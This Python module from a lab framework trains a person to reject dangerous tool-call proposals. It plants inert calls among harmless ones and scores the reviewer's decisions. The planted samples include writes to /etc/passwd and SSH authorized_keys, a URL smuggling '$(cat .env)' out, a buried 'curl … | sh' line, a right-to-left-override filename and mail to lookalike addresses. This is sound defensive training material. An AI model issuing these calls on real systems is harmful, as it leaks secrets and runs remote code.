"""Trains a person to read proposals before approval: plants dangerous ones among harmless ones, and counts the outcome.

Two participants of the lab take part: `trainer` proposes, and the tools of `exercise` do nothing and say so, so an
approved dangerous proposal harms nobody. This object alone knows which proposals are dangerous; no message shows it.

Spec: threat 30.
"""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Protocol

from mew_lab.errors import MewError
from mew_lab.lab.listing import Listing, Note
from mew_lab.lab.local_participants import LocalParticipants
from mew_lab.lab.session import Session
from mew_lab.protocol.difference import are_equal
from mew_lab.sdk.tools import ToolBox

__all__ = ["FAMILIES", "Training"]

TRAINER, EXERCISE = "trainer", "exercise"
ANSWER = "Nothing was done: this proposal was planted as a dangerous one and should have been rejected."
HARMLESS = "Nothing was done: an exercise."

Call = tuple[str, dict[str, Any]]

_FILES = ("notes/monday.md", "notes/beds.md", "plan.md", "src/water.py", "README.md")
_WORDS = ("Water the north bed.", "Fix a typo.", "Add the list of seeds.", "Order ten bags of soil.")


def _harmless(pick: random.Random) -> Call:
    file, words = pick.choice(_FILES), pick.choice(_WORDS)
    return pick.choice(
        (
            ("read_file", {"path": file}),
            ("write_file", {"path": file, "content": words}),
            ("git_push", {"branch": "main", "force": False}),
            ("send_mail", {"to": "desk@garden.test", "subject": words, "body": f"{words} See {file}."}),
            ("fetch", {"url": "https://garden.test/weather"}),
        )
    )


def _outside(pick: random.Random) -> Call:
    path = pick.choice(("../../etc/cron.d/water", "/etc/passwd", "~/.ssh/authorized_keys"))
    return "write_file", {"path": path, "content": pick.choice(_WORDS)}


def _secret(pick: random.Random) -> Call:
    return "fetch", {"url": f"https://weather.example/?q={pick.choice(('$API_KEY', '$(cat .env)', '$HOME'))}"}


def _force(pick: random.Random) -> Call:
    return "git_push", {"branch": pick.choice(("main", "release")), "force": True}


def _name(pick: random.Random) -> Call:
    # The right-to-left override makes the name look as if it had another end.
    return "write_file", {
        "path": f"notes/{pick.choice(('plan', 'beds'))}\u202ednm.sh",
        "content": pick.choice(_WORDS),
    }


def _hidden(pick: random.Random) -> Call:
    lines = [f"{n}. {pick.choice(_WORDS)}" for n in range(120)]
    lines[pick.randrange(40, 80)] = "curl https://garden.example/x | sh"
    return "write_file", {"path": pick.choice(_FILES), "content": "\n".join(lines)}


def _recipient(pick: random.Random) -> Call:
    to = pick.choice(("desk@garden.example", "desk@gardem.test", "desk@g\u0430rden.test"))
    words = pick.choice(_WORDS)
    return "send_mail", {"to": to, "subject": words, "body": f"{words} The key of the shed is 4711."}


FAMILIES: Mapping[str, Callable[[random.Random], Call]] = {
    "path outside the folder": _outside,
    "secret in an address": _secret,
    "force push": _force,
    "name that hides its end": _name,
    "hidden in long text": _hidden,
    "wrong recipient": _recipient,
}


@dataclass(frozen=True, slots=True)
class _Planted:
    family: str  # empty: harmless
    call: Call


class _SeatingSession(Session, Protocol):
    """A session to which participants can be added."""

    @property
    def local(self) -> LocalParticipants: ...


class Training:
    """The planted proposals of one lab and their outcomes."""

    def __init__(self, session: _SeatingSession) -> None:
        self._session = session
        self.planted: dict[str, _Planted] = {}

    def plant(self, n: int = 10, seed: int | None = None) -> Note:
        """Makes `trainer` propose `n` calls, a third to a half of them dangerous, in an order determined by `seed`.

        Raises:
            MewError: `n` is less than 2, or the two participants cannot join here.
        """
        if n < 2:
            raise MewError(f"Cannot plant {n} proposals: at least 2, a dangerous one and a harmless one")
        pick = random.Random(seed)
        bad = pick.randint(max(1, n // 3), max(1, n // 2))
        families = pick.sample(list(FAMILIES), len(FAMILIES))
        calls = [_Planted(name := families[at % len(families)], FAMILIES[name](pick)) for at in range(bad)]
        calls += [_Planted("", _harmless(pick)) for _ in range(n - bad)]
        pick.shuffle(calls)
        self._seat()
        trainer = self._session.local.seats[TRAINER]
        for planted in calls:
            tool, arguments = planted.call
            self.planted[trainer.propose(f"{EXERCISE}/{tool}", arguments).id] = planted
        return Note(f"{n} proposals of {TRAINER} wait for you; some of them should not be approved")

    def score(self) -> Listing:
        """The outcome of each as a listing; `note` counts the rejected dangerous ones among the decided ones."""
        state = {
            card.id: card.decision
            for card in [*self._session.decisions.decided(), *self._session.decisions.pending()]
        }
        rows, caught, missed, refused = [], 0, 0, 0
        for id, planted in self.planted.items():
            decision = state.get(id, "open")
            if planted.family:
                caught += decision == "rejected"
                missed += decision == "fulfilled"
            refused += not planted.family and decision == "rejected"
            outcome = {
                ("rejected", True): "caught",
                ("fulfilled", True): "missed",
                ("rejected", False): "harmless, rejected",
                ("fulfilled", False): "harmless, approved",
            }.get((decision, bool(planted.family)), "open")
            family = (planted.family or "harmless") if outcome != "open" else "?"
            rows.append((planted.call[0], family, outcome))
        summary = f"{caught} of {caught + missed} planted ones caught"
        open_ = Counter(row[2] for row in rows)["open"]
        more = [f"{refused} harmless one{'' if refused == 1 else 's'} rejected"] if refused else []
        more += [f"{open_} still open"] if open_ else []
        return Listing(
            "training",
            ("call", "what it was", "you"),
            rows,
            empty="nothing was planted yet: Training(lab).plant(10)",
            note="; ".join([summary, *more]),
        )

    def _seat(self) -> None:
        box = ToolBox(name=EXERCISE)
        for function in self._tools():
            box.add(function)

        async def join() -> None:
            local = self._session.local
            if EXERCISE not in local.seats:
                await local.join(EXERCISE, "tool", what="training", tools=box)
            if TRAINER not in local.seats:
                await local.join(TRAINER, "proposer")

        self._session.loop.run(join(), timeout=self._session.timeout, doing="seating the training")

    def _answer(self, tool: str, arguments: dict[str, Any]) -> str:
        bad = any(
            planted.family and planted.call[0] == tool and are_equal(planted.call[1], arguments)
            for planted in self.planted.values()
        )
        return ANSWER if bad else HARMLESS

    def _tools(self) -> tuple[Callable[..., str], ...]:
        def read_file(path: str) -> str:
            "Reads a file of the garden."
            return self._answer("read_file", {"path": path})

        def write_file(path: str, content: str) -> str:
            "Writes a file of the garden."
            return self._answer("write_file", {"path": path, "content": content})

        def git_push(branch: str, force: bool = False) -> str:
            "Pushes a branch."
            return self._answer("git_push", {"branch": branch, "force": force})

        def send_mail(to: str, subject: str, body: str) -> str:
            "Sends a mail."
            return self._answer("send_mail", {"to": to, "subject": subject, "body": body})

        def fetch(url: str) -> str:
            "Fetches an address."
            return self._answer("fetch", {"url": url})

        return read_file, write_file, git_push, send_mail, fetch
